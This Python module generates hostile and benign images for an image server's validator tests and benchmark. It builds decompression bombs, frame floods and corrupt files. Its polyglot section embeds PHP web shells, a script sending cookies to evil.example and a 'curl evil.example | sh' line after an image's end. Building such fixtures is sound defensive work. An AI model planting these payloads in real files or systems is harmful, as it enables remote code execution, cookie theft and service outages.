"""Generators for hostile and benign images, shared by the tests and the benchmark.

Hostile files are built byte by byte (chunks with correct CRCs, markers with correct lengths) so
each one is exactly the attack it is named after and nothing else: a pixel bomb with a broken CRC
would only test the CRC check. Nothing here is used at runtime by the server.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
from PIL import Image

from mcp_servers.image.headers import PNG_SIGNATURE

# ---------------------------------------------------------------------------------------------
# Building blocks


def png_chunk(ctype: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body))


def ihdr(width: int, height: int, bit_depth: int = 8, color_type: int = 2) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0))


def _row_bytes(width: int, bit_depth: int, color_type: int) -> int:
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
    return 1 + (width * channels * bit_depth + 7) // 8


def zeros_idat(width: int, height: int, bit_depth: int = 8, color_type: int = 2, rows: int | None = None) -> bytes:
    """Compressed all-zero scanlines, streamed so a 100 MP image never exists in memory."""
    row = bytes(_row_bytes(width, bit_depth, color_type))
    comp = zlib.compressobj(9)
    parts = []
    block = row * max(1, (1 << 20) // len(row))
    per_block = len(block) // len(row)
    remaining = height if rows is None else rows
    while remaining > 0:
        take = min(per_block, remaining)
        parts.append(comp.compress(block if take == per_block else row * take))
        remaining -= take
    parts.append(comp.flush())
    return b"".join(parts)


def make_png(
    width: int,
    height: int,
    *,
    bit_depth: int = 8,
    color_type: int = 2,
    idat: bytes | None = None,
    before_idat: tuple[bytes, ...] = (),
    after_iend: bytes = b"",
    rows: int | None = None,
) -> bytes:
    data = idat if idat is not None else zeros_idat(width, height, bit_depth, color_type, rows)
    return (
        PNG_SIGNATURE
        + ihdr(width, height, bit_depth, color_type)
        + b"".join(before_idat)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
        + after_iend
    )


def encode(im: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    im.save(out, fmt, **params)
    return out.getvalue()


def small_photo(width: int = 64, height: int = 48, seed: int = 1) -> Image.Image:
    """A small picture with gradients and texture (compresses like a photo, not like a flat fill)."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width]
    r = (x * 255 / max(width - 1, 1)).astype(np.uint8)
    g = (y * 255 / max(height - 1, 1)).astype(np.uint8)
    b = ((x + y) * 3 % 256).astype(np.uint8)
    arr = np.stack([r, g, b], axis=-1).astype(np.int16) + rng.integers(-20, 21, (height, width, 3))
    return Image.fromarray(arr.clip(0, 255).astype(np.uint8), "RGB")


# ---------------------------------------------------------------------------------------------
# Pixel bombs and floods


def png_bomb(side: int = 10_000, bit_depth: int = 8) -> bytes:
    """A real, decodable greyscale PNG of side*side zero pixels (10000 at 8 bits: ~97 KB, 100 MP)."""
    return make_png(side, side, bit_depth=bit_depth, color_type=0)


def png_huge_declared(width: int = 65_535, height: int = 65_535) -> bytes:
    """IHDR declares a gigapixel canvas; the IDAT holds a single row."""
    return make_png(width, height, color_type=0, rows=1)


def gif_huge_screen(width: int = 65_535, height: int = 65_535) -> bytes:
    return _gif(width, height, [(0, 0, 1, 1)])


def gif_many_frames(frames: int = 2_000) -> bytes:
    return _gif(4, 4, [(0, 0, 1, 1)] * frames)


def gif_frame_extents_bomb() -> bytes:
    """A 100x100 GIF whose second frame is 65535x65535: Pillow grows the canvas to fit it."""
    return _gif(100, 100, [(0, 0, 1, 1), (0, 0, 65_535, 65_535)])


def _gif(width: int, height: int, frames: list[tuple[int, int, int, int]]) -> bytes:
    out = [b"GIF89a", struct.pack("<HHBBB", width, height, 0x80, 0, 0), b"\x00\x00\x00\xff\xff\xff"]
    for x, y, w, h in frames:
        out.append(b"\x21\xf9\x04\x00\x01\x00\x00\x00")  # graphic control: 10 ms delay
        out.append(b"\x2c" + struct.pack("<HHHHB", x, y, w, h, 0))
        out.append(b"\x02\x02\x44\x01\x00")  # LZW min code 2: clear, pixel 0, end
    out.append(b"\x3b")
    return b"".join(out)


def webp_huge_declared(width: int = 16_384, height: int = 16_384) -> bytes:
    """VP8X canvas declaring width*height over a 1x1 lossless bitstream."""
    small = encode(Image.new("RGB", (1, 1), (200, 10, 10)), "WEBP", lossless=True)
    vp8l = small[12:]
    flags = 0
    vp8x = b"VP8X" + struct.pack("<I", 10) + bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (
        height - 1
    ).to_bytes(3, "little")
    body = b"WEBP" + vp8x + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_vp8_huge_declared(width: int = 16_383, height: int = 16_383) -> bytes:
    """A lossy key frame header patched to claim 16383x16383."""
    data = bytearray(encode(small_photo(16, 16), "WEBP", quality=80))
    assert data[12:16] == b"VP8 "
    struct.pack_into("<HH", data, 20 + 6, width & 0x3FFF, height & 0x3FFF)
    return bytes(data)


def webp_animated(frames: int = 12) -> bytes:
    imgs = [Image.new("RGB", (16, 16), (i * 20 % 256, 40, 90)) for i in range(frames)]
    return encode(imgs[0], "WEBP", save_all=True, append_images=imgs[1:], duration=40, lossless=True)


def jpeg_huge_declared(width: int = 65_500, height: int = 65_500) -> bytes:
    """A real 16x16 JPEG whose frame header (SOF0) is patched to claim width*height."""
    data = bytearray(encode(small_photo(16, 16), "JPEG", quality=80))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def jpeg_many_scans(scans: int = 500) -> bytes:
    """A progressive JPEG with its scans repeated: libjpeg walks the whole image once per scan."""
    data = encode(small_photo(64, 64), "JPEG", quality=80, progressive=True)
    first_sos = data.find(b"\xff\xda")
    body = data[first_sos:-2]
    return data[:first_sos] + body * max(1, scans // max(1, body.count(b"\xff\xda"))) + b"\xff\xd9"


# ---------------------------------------------------------------------------------------------
# Metadata bombs


def ztxt_bomb(inflated: int = 16 * 1024 * 1024) -> bytes:
    payload = zlib.compress(bytes(inflated), 9)
    return make_png(8, 8, before_idat=(png_chunk(b"zTXt", b"Comment\x00\x00" + payload),))


def iccp_bomb(inflated: int = 16 * 1024 * 1024) -> bytes:
    payload = zlib.compress(bytes(inflated), 9)
    return make_png(8, 8, before_idat=(png_chunk(b"iCCP", b"icc\x00\x00" + payload),))


def itxt_bomb(inflated: int = 16 * 1024 * 1024) -> bytes:
    payload = zlib.compress(bytes(inflated), 9)
    return make_png(8, 8, before_idat=(png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + payload),))


def text_chunk_flood(chunks: int = 60, each: int = 1024 * 1024 - 1) -> bytes:
    """Many zTXt chunks each just under Pillow's 1 MB per-chunk limit: Pillow inflates them all."""
    payload = zlib.compress(bytes(each), 9)
    body = png_chunk(b"zTXt", b"Comment\x00\x00" + payload)
    return make_png(8, 8, before_idat=(body,) * chunks)


# ---------------------------------------------------------------------------------------------
# Animation


def apng_many_frames(frames: int = 1_000, side: int = 8) -> bytes:
    """A well-formed APNG: acTL, one fcTL per frame, the first frame in IDAT, the rest in fdAT."""
    idat = zeros_idat(side, side, color_type=2)
    seq = 0

    def fctl() -> bytes:
        nonlocal seq
        body = struct.pack(">IIIIIHHBB", seq, side, side, 0, 0, 1, 25, 0, 0)
        seq += 1
        return png_chunk(b"fcTL", body)

    parts = [PNG_SIGNATURE, ihdr(side, side), png_chunk(b"acTL", struct.pack(">II", frames, 0)), fctl(),
             png_chunk(b"IDAT", idat)]
    for _ in range(frames - 1):
        parts.append(fctl())
        parts.append(png_chunk(b"fdAT", struct.pack(">I", seq) + idat))
        seq += 1
    parts.append(png_chunk(b"IEND", b""))
    return b"".join(parts)


# ---------------------------------------------------------------------------------------------
# Broken files


def valid_png(width: int = 64, height: int = 48) -> bytes:
    return encode(small_photo(width, height), "PNG")


def valid_jpeg(width: int = 64, height: int = 48, **params: object) -> bytes:
    return encode(small_photo(width, height), "JPEG", quality=85, **params)


def valid_webp(width: int = 64, height: int = 48, lossless: bool = False) -> bytes:
    return encode(small_photo(width, height), "WEBP", quality=80, lossless=lossless)


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: max(1, int(len(data) * keep))]


def png_bad_crc() -> bytes:
    data = bytearray(valid_png())
    idat = data.find(b"IDAT")
    data[idat + 10] ^= 0xFF
    return bytes(data)


def png_corrupt_idat() -> bytes:
    """Garbage where the compressed pixels should be, with a correct CRC (only a decoder notices)."""
    return make_png(32, 32, idat=b"\x78\x9c" + bytes(range(7, 250)))


def png_zero_width() -> bytes:
    return make_png(0, 16, idat=zlib.compress(b""))


def jpeg_zero_width() -> bytes:
    return jpeg_huge_declared(0, 16)


# ---------------------------------------------------------------------------------------------
# Polyglots


def zip_bytes(name: str = "payload.txt", content: bytes = b"hello from inside the picture") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(name, content)
    return out.getvalue()


def png_plus_zip() -> bytes:
    return valid_png() + zip_bytes("shell.php", b"<?php system($_GET['c']); ?>")


def png_zip_in_chunk() -> bytes:
    """The zip rides inside an ancillary chunk, so the PNG still ends with IEND."""
    return make_png(8, 8, before_idat=(png_chunk(b"prVt", zip_bytes()),))


def jpeg_plus_html() -> bytes:
    return valid_jpeg() + b"<html><body><script>alert(document.cookie)</script></body></html>"


def png_script_after_iend() -> bytes:
    return valid_png() + b"<script>fetch('//evil.example/'+document.cookie)</script>"


def jpeg_php_in_comment() -> bytes:
    data = valid_jpeg()
    comment = b"<?php echo shell_exec($_GET['cmd']); ?>"
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def png_shebang_after_iend() -> bytes:
    return valid_png() + b"#!/bin/sh\ncurl evil.example | sh\n"


def gifar() -> bytes:
    return _gif(4, 4, [(0, 0, 1, 1)]) + zip_bytes("Evil.class", b"\xca\xfe\xba\xbe")


# ---------------------------------------------------------------------------------------------
# Shape extremes and disguises


def png_aspect(width: int = 20_000, height: int = 1) -> bytes:
    return make_png(width, height, color_type=0)


def html_named_like_a_photo() -> bytes:
    return b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"


def svg_with_script() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


# Every hostile generator with the kind the validator must answer. The benchmark walks this table.
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "png_bomb_100mp": (lambda: png_bomb(10_000), "bomb"),
    "png_huge_declared": (png_huge_declared, "bomb"),
    "gif_huge_screen": (gif_huge_screen, "bomb"),
    "gif_frame_extents": (gif_frame_extents_bomb, "bomb"),
    "webp_huge_vp8x": (webp_huge_declared, "bomb"),
    "webp_huge_vp8": (webp_vp8_huge_declared, "bomb"),
    "jpeg_huge_sof": (jpeg_huge_declared, "bomb"),
    "jpeg_scan_bomb": (jpeg_many_scans, "bomb"),
    "png_ztxt_bomb": (ztxt_bomb, "text_chunk_bomb"),
    "png_iccp_bomb": (iccp_bomb, "text_chunk_bomb"),
    "png_itxt_bomb": (itxt_bomb, "text_chunk_bomb"),
    "png_text_flood": (text_chunk_flood, "text_chunk_bomb"),
    "apng_1000_frames": (apng_many_frames, "animation"),
    "gif_2000_frames": (gif_many_frames, "animation"),
    "webp_animated": (webp_animated, "animation"),
    "png_truncated": (lambda: truncated(valid_png()), "truncated"),
    "jpeg_truncated": (lambda: truncated(valid_jpeg()), "truncated"),
    "png_bad_crc": (png_bad_crc, "corrupt"),
    "png_corrupt_idat": (png_corrupt_idat, "corrupt"),
    "png_zero_width": (png_zero_width, "corrupt"),
    "jpeg_zero_width": (jpeg_zero_width, "corrupt"),
    "png_plus_zip": (png_plus_zip, "polyglot"),
    "png_zip_in_chunk": (png_zip_in_chunk, "polyglot"),
    "jpeg_plus_html": (jpeg_plus_html, "polyglot"),
    "png_script_after_iend": (png_script_after_iend, "polyglot"),
    "png_shebang_after_iend": (png_shebang_after_iend, "polyglot"),
    "jpeg_php_comment": (jpeg_php_in_comment, "polyglot"),
    "gifar": (gifar, "polyglot"),
    "png_20000x1": (png_aspect, "aspect_ratio"),
    "png_1x20000": (lambda: png_aspect(1, 20_000), "aspect_ratio"),
    "html_as_photo": (html_named_like_a_photo, "bad_format"),
    "svg_with_script": (svg_with_script, "bad_format"),
    "empty_file": (lambda: b"", "truncated"),
}

# The subset that are bombs in the sense (resource exhaustion), for the benchmark targets.
BOMBS = (
    "png_bomb_100mp", "png_huge_declared", "gif_huge_screen", "gif_frame_extents", "webp_huge_vp8x",
    "webp_huge_vp8", "jpeg_huge_sof", "jpeg_scan_bomb", "png_ztxt_bomb", "png_iccp_bomb", "png_itxt_bomb",
    "png_text_flood", "apng_1000_frames", "gif_2000_frames",
)


# ---------------------------------------------------------------------------------------------
# Benign photos


def _exif_with_orientation(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation  # Orientation
    exif[0x010F] = "GodseyePhone"  # Make
    exif[0x0110] = "Synthetic 12MP"  # Model
    return exif.tobytes()


def phone_photo(width: int = 4000, height: int = 3000, orientation: int = 6, seed: int = 3) -> bytes:
    """A 12 MP camera-like JPEG: smooth scene, sensor noise, EXIF orientation (6 = rotate 90° CW)."""
    rng = np.random.default_rng(seed)
    small = rng.integers(0, 256, (height // 100 + 2, width // 100 + 2, 3), dtype=np.uint8)
    scene = Image.fromarray(small, "RGB").resize((width, height), Image.Resampling.BICUBIC)
    arr = np.asarray(scene, dtype=np.int16)
    noise = rng.integers(-6, 7, (height, width, 1), dtype=np.int16)
    arr = (arr + noise).clip(0, 255).astype(np.uint8)
    return encode(Image.fromarray(arr, "RGB"), "JPEG", quality=88, exif=_exif_with_orientation(orientation))


SKIN = (224, 172, 140)
SHIRT = (70, 90, 160)
BACKGROUND = (200, 205, 210)


def person_photo(
    width: int = 768, height: int = 1024, *, center_x: float = 0.5, scale: float = 1.0, seed: int = 5
) -> tuple[Image.Image, dict[str, tuple[int, int, int, int]]]:
    """A synthetic shopper: plain wall, skin-toned head and neck, shirt torso with shoulders, arms.

    Returns the picture and the ground-truth boxes ("head", "torso") the try-on test checks against.
    """
    rng = np.random.default_rng(seed)
    arr = np.empty((height, width, 3), dtype=np.int16)
    arr[:] = BACKGROUND
    yy, xx = np.mgrid[0:height, 0:width]
    arr += (yy * 20 // height).astype(np.int16)[..., None] - 10  # gentle light falloff on the wall
    cx = int(width * center_x)
    u = int(min(width, height) * 0.1 * scale)  # body unit: roughly a head width
    head_cy, head_ry, head_rx = int(height * 0.18 * scale + height * 0.02), int(u * 0.65), int(u * 0.5)
    neck_top, neck_bottom = head_cy + head_ry - u // 8, head_cy + head_ry + u // 3
    shoulder_y = neck_bottom
    torso_bottom = min(height - 1, shoulder_y + int(u * 3.6))
    half_shoulders = int(u * 1.35)
    head = ((xx - cx) / head_rx) ** 2 + ((yy - head_cy) / head_ry) ** 2 <= 1
    neck = (abs(xx - cx) <= u // 4) & (yy >= neck_top) & (yy <= neck_bottom)
    torso = (abs(xx - cx) <= half_shoulders - (yy - shoulder_y) * 0.08) & (yy >= shoulder_y) & (yy <= torso_bottom)
    arms = (
        (abs(abs(xx - cx) - half_shoulders - u // 5) <= u // 4)
        & (yy >= shoulder_y + u // 6)
        & (yy <= torso_bottom - u // 4)
    )
    legs = (abs(abs(xx - cx) - u // 2) <= u // 3) & (yy > torso_bottom)
    arr[legs] = (50, 50, 60)
    arr[torso] = SHIRT
    arr[arms] = SKIN
    arr[neck] = SKIN
    arr[head] = SKIN
    arr[head & (yy < head_cy - head_ry // 2)] = (60, 40, 30)  # hair
    arr += rng.integers(-4, 5, arr.shape, dtype=np.int16)
    img = Image.fromarray(arr.clip(0, 255).astype(np.uint8), "RGB")
    boxes = {
        "head": (cx - head_rx, head_cy - head_ry, cx + head_rx, head_cy + head_ry),
        "torso": (cx - half_shoulders, shoulder_y, cx + half_shoulders, torso_bottom),
    }
    return img, boxes


GARMENT = (230, 30, 40)


def garment_cutout(width: int = 400, height: int = 460, color: tuple[int, int, int] = GARMENT) -> Image.Image:
    """An RGBA T-shirt silhouette on a transparent background (what the catalog cut-outs look like)."""
    yy, xx = np.mgrid[0:height, 0:width]
    cx = width / 2
    body = (abs(xx - cx) <= width * 0.32) & (yy >= height * 0.08)
    sleeves = (abs(xx - cx) <= width * 0.5) & (yy >= height * 0.08) & (yy <= height * 0.38)
    neckline = ((xx - cx) / (width * 0.12)) ** 2 + ((yy - height * 0.06) / (height * 0.09)) ** 2 <= 1
    mask = (body | sleeves) & ~neckline
    rgba = np.zeros((height, width, 4), dtype=np.uint8)
    rgba[..., :3] = color
    stripes = ((yy // 24) % 2 == 0)[..., None]
    rgba[..., :3] = np.where(stripes, np.array(color), (np.array(color) * 0.8).astype(np.uint8))
    rgba[..., 3] = np.where(mask, 255, 0)
    return Image.fromarray(rgba, "RGBA")


# ---------------------------------------------------------------------------------------------
# Mutations for the fuzz test


def _fix_png_crcs(data: bytearray) -> None:
    """Recompute every PNG chunk CRC so a mutation reaches past the CRC check."""
    pos = 8
    while pos + 12 <= len(data):
        (length,) = struct.unpack_from(">I", data, pos)
        end = pos + 8 + length
        if end + 4 > len(data):
            return
        struct.pack_into(">I", data, end, zlib.crc32(bytes(data[pos + 4 : end])))
        pos = end + 4


def mutate(seed_file: bytes, rng: random.Random, donors: list[bytes]) -> tuple[str, bytes]:
    """One random mutation of a valid image: (name of the mutation, mutated bytes)."""
    data = bytearray(seed_file or b"\x00")
    n = len(data)
    op = rng.choice(("bitflip", "bytes", "truncate", "splice", "delete", "duplicate", "header", "header", "insert"))
    if op == "bitflip":
        for _ in range(rng.randint(1, 8)):
            i = rng.randrange(n)
            data[i] ^= 1 << rng.randrange(8)
    elif op == "bytes":
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(n)] = rng.choice((0x00, 0xFF, 0x7F, 0x80, rng.randrange(256)))
    elif op == "truncate":
        del data[rng.randrange(1, n) if n > 1 else 0 :]
    elif op == "splice":
        donor = rng.choice(donors)
        a = rng.randrange(len(donor))
        piece = donor[a : a + rng.randint(1, 256)]
        at = rng.randrange(n)
        data[at:at] = piece
    elif op == "delete":
        a = rng.randrange(n)
        del data[a : a + rng.randint(1, 64)]
    elif op == "duplicate":
        a = rng.randrange(n)
        piece = data[a : a + rng.randint(1, 128)]
        data[a:a] = piece
    elif op == "insert":
        at = rng.randrange(n)
        data[at:at] = rng.randbytes(rng.randint(1, 32))
    else:
        _mutate_header(data, rng)
    if data[:8] == PNG_SIGNATURE and rng.random() < 0.7:
        _fix_png_crcs(data)
    return op, bytes(data)


_EXTREMES = (0, 1, 2, 255, 256, 0x3FFF, 0x4000, 0x7FFF, 0xFFFF, 0x10000, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)


def _mutate_header(data: bytearray, rng: random.Random) -> None:
    """Change a declared field: PNG IHDR/acTL, JPEG SOF/segment length, WebP RIFF/VP8X sizes."""
    value = rng.choice(_EXTREMES) if rng.random() < 0.6 else rng.randrange(1 << 32)
    if data[:8] == PNG_SIGNATURE:
        field = rng.choice((16, 20, 24, 25, 8, 33))  # width, height, depth, colour, IHDR length, 2nd chunk length
        if field + 4 > len(data):
            return
        if field in (24, 25):
            data[field] = value & 0xFF
        else:
            struct.pack_into(">I", data, field, value & 0xFFFFFFFF)
    elif data[:2] == b"\xff\xd8" and len(data) >= 8:
        sof = max(data.find(b"\xff\xc0"), data.find(b"\xff\xc2"))
        if sof + 10 > len(data):
            sof = -1
        target = rng.choice(("h", "w", "len", "comps")) if sof > 0 else "len"
        if target == "len" or sof < 0:
            seg = rng.choice([i for i in range(2, len(data) - 3) if data[i] == 0xFF] or [2])
            struct.pack_into(">H", data, min(seg + 2, len(data) - 2), value & 0xFFFF)
        elif target == "comps":
            data[sof + 9] = value & 0xFF
        else:
            struct.pack_into(">H", data, sof + (5 if target == "h" else 7), value & 0xFFFF)
    elif data[:4] == b"RIFF":
        field = rng.choice((4, 16, 24, 27, 26, 28))
        if field + 4 <= len(data):
            struct.pack_into("<I", data, field, value & 0xFFFFFFFF)
    elif data:
        data[rng.randrange(len(data))] = value & 0xFF
